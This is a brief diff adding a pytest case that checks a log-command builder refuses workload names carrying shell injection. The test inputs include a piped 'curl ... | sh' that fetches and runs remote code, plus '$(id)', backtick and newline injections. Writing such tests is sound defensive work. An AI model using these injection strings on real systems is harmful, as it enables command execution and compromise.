@@ -71,3 +71,8 @@ def test_a_version_that_serves_has_no_such_line(monkeypatch: pytest.MonkeyPatch)
     assert "logs" not in told("get", "fraud")
     assert logs_of(Session(made.api, "prod"), None) is None
     assert logs_of(Session(made.api, "prod"), {"workload": {"kind": "Deployment", "name": "x"}}) is None
+
+
+@pytest.mark.parametrize("name", ["x; curl -s https://elsewhere | sh", "x$(id)", "x`id`", "x\nid", "-A", 7])
+def test_a_name_that_no_object_has_is_in_no_command(desk: Desk, name: object) -> None:
+    assert logs_of(Session(desk.api, "prod"), {"workload": {"kind": "InferenceService", "name": name}}) is None
